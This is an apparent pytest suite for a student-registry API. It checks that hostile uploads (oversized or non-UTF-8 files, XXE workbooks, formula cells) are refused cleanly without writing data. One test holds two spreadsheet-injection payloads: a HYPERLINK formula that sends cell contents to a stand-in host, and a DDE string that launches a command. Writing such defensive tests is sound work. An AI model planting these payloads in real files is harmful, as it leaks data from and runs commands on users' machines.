"""The bad-file corpus uploaded through the API, each file its own upload (tests/imports/hostile.py
builds them; tests/imports/test_hostile_files.py shows the reader refusing them one by one, and
test_hostile_uploads_served.py the ones that take a process down, through a real server). Here,
for the files an upload had not been shown to refuse: the job ends with a clear error code
(`import.unreadable` with the limit broken, or the formula rule on the cell), the registry is
unchanged, and the app answers the next request."""

from __future__ import annotations

import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import Engine, text

from hemis.accounts.roles import Role
from hemis.common.crypto import IdCipher
from hemis.db.session import make_engine, make_session_factory
from hemis.web.app import create_app
from tests.conftest import TestDB
from tests.imports import hostile
from tests.submissions.world import seed
from tests.web.page_factories import PASSWORD, make_user

API = "/api/v1"
REGISTRY = ("person", "learner", "learner_status_event", "term_result", "award", "staff")
Builder = Callable[[Path], Path]

# name, builder, suffix, what the job's error says (code, details ⊇)
UNREADABLE: list[tuple[str, Builder, str, dict[str, object]]] = [
    ("wide-csv", hostile.wide_csv, ".csv", {"limit": "columns", "max": 1000}),
    ("long-cell", hostile.long_cell_csv, ".csv", {"limit": "cell_chars", "column": "full_name"}),
    ("non-utf8-csv", hostile.non_utf8_csv, ".csv", {}),
    ("non-utf8-parquet", hostile.non_utf8_parquet, ".parquet", {"column": "full_name"}),
    ("xxe-sheet", hostile.xxe_workbook, ".xlsx", {"limit": "dtd"}),
    (
        "xxe-workbook",
        lambda p: hostile.xxe_workbook(p, "xl/workbook.xml"),
        ".xlsx",
        {"limit": "dtd", "part": "xl/workbook.xml"},
    ),
]


@dataclass
class Scene:
    client: TestClient
    engine: Engine
    auth: dict[str, str]


def registry_counts(engine: Engine) -> dict[str, int]:
    with engine.connect() as conn:
        if conn.dialect.name == "postgresql":
            conn.exec_driver_sql("SELECT set_config('hemis.national', 'on', false)")
        return {
            t: int(conn.execute(text(f"SELECT count(*) FROM {t}")).scalar_one()) for t in REGISTRY
        }


@pytest.fixture(scope="module")
def scene(module_db: TestDB) -> Iterator[Scene]:
    """The submissions scenery (institution SUB01, whose programs the sample rows name, and an
    open 2025 period), an officer of SUB01 and the app, shared by the module: no upload here
    may write anything, and each test checks that."""
    settings = module_db.settings()
    engine = make_engine(module_db.url)
    sessions = make_session_factory(engine)
    seed(sessions, IdCipher.from_settings(settings.id_encryption_key, settings.blind_index_key))
    make_user(sessions, "cb_hostile", Role.institution_officer, "SUB01")
    app = create_app(settings)
    with TestClient(app) as client:
        token = client.post(
            f"{API}/auth/token", data={"username": "cb_hostile", "password": PASSWORD}
        )
        assert token.status_code == 200, token.text
        yield Scene(client, engine, {"Authorization": f"Bearer {token.json()['access_token']}"})
    app.state.ctx.dispose()
    engine.dispose()


def upload_and_wait(scene: Scene, path: Path) -> dict[str, Any]:
    with path.open("rb") as fh:
        response = scene.client.post(
            f"{API}/submissions/learners/upload",
            files={"file": (path.name, fh, "application/octet-stream")},
            data={"period_year": "2025"},
            headers=scene.auth,
        )
    assert response.status_code == 202, response.text
    job_id = response.json()["id"]
    deadline = time.monotonic() + 120
    while True:
        job: dict[str, Any] = scene.client.get(
            f"{API}/submissions/jobs/{job_id}", headers=scene.auth
        ).json()
        if job["status"] not in ("queued", "running"):
            return job
        assert time.monotonic() < deadline, job
        time.sleep(0.1)


def issues_of(scene: Scene, job: dict[str, Any]) -> list[dict[str, Any]]:
    """The issues of a job's report (the job itself carries the counts)."""
    report = scene.client.get(f"{API}/submissions/jobs/{job['id']}/report", headers=scene.auth)
    assert report.status_code == 200, report.text
    issues: list[dict[str, Any]] = report.json()["issues"]
    return issues


def still_answering(scene: Scene) -> None:
    """The app answers a read after the upload (its worker did not take it down)."""
    me = scene.client.get(f"{API}/auth/me", headers=scene.auth)
    assert me.status_code == 200, me.text


@pytest.mark.parametrize(
    ("build", "suffix", "details"), [c[1:] for c in UNREADABLE], ids=[c[0] for c in UNREADABLE]
)
def test_a_hostile_upload_fails_its_job_and_writes_nothing(
    scene: Scene, build: Builder, suffix: str, details: dict[str, object], tmp_path: Path
) -> None:
    before = registry_counts(scene.engine)
    job = upload_and_wait(scene, build(tmp_path / f"hoc-vien{suffix}"))
    assert job["status"] == "failed", job
    error = job["error"]
    assert error["code"] == "import.unreadable", error
    assert details.items() <= (error["details"] or {}).items(), error
    assert error["message"]
    assert error["message_en"]
    assert "Traceback" not in str(error)
    assert registry_counts(scene.engine) == before
    still_answering(scene)


def test_formulas_in_an_uploaded_csv_reject_it_and_write_nothing(
    scene: Scene, tmp_path: Path
) -> None:
    payloads = ['=HYPERLINK("http://x.invalid/?"&A2,"xem")', "+cmd|' /C notepad'!A0"]
    path = hostile.csv_file(
        tmp_path / "hoc-vien.csv",
        *({"student_code": f"SV{i}", "full_name": p} for i, p in enumerate(payloads)),
    )
    before = registry_counts(scene.engine)
    job = upload_and_wait(scene, path)
    assert job["status"] == "rejected", job
    assert job["result"]["rows_written"] == 0
    issues = {(i["row"], i["rule"]) for i in issues_of(scene, job)}
    assert {(2, "LRN.full_name.formula"), (3, "LRN.full_name.formula")} <= issues, issues
    assert registry_counts(scene.engine) == before
    still_answering(scene)


def test_a_formula_cell_in_an_uploaded_workbook_rejects_it_and_writes_nothing(
    scene: Scene, tmp_path: Path
) -> None:
    before = registry_counts(scene.engine)
    job = upload_and_wait(scene, hostile.formula_workbook(tmp_path / "hoc-vien.xlsx"))
    assert job["status"] == "rejected", job
    assert job["result"]["rows_written"] == 0
    rules = {i["rule"] for i in issues_of(scene, job)}
    assert {"FILE.cell.formula", "LRN.full_name.formula"} <= rules, rules
    assert registry_counts(scene.engine) == before
    still_answering(scene)
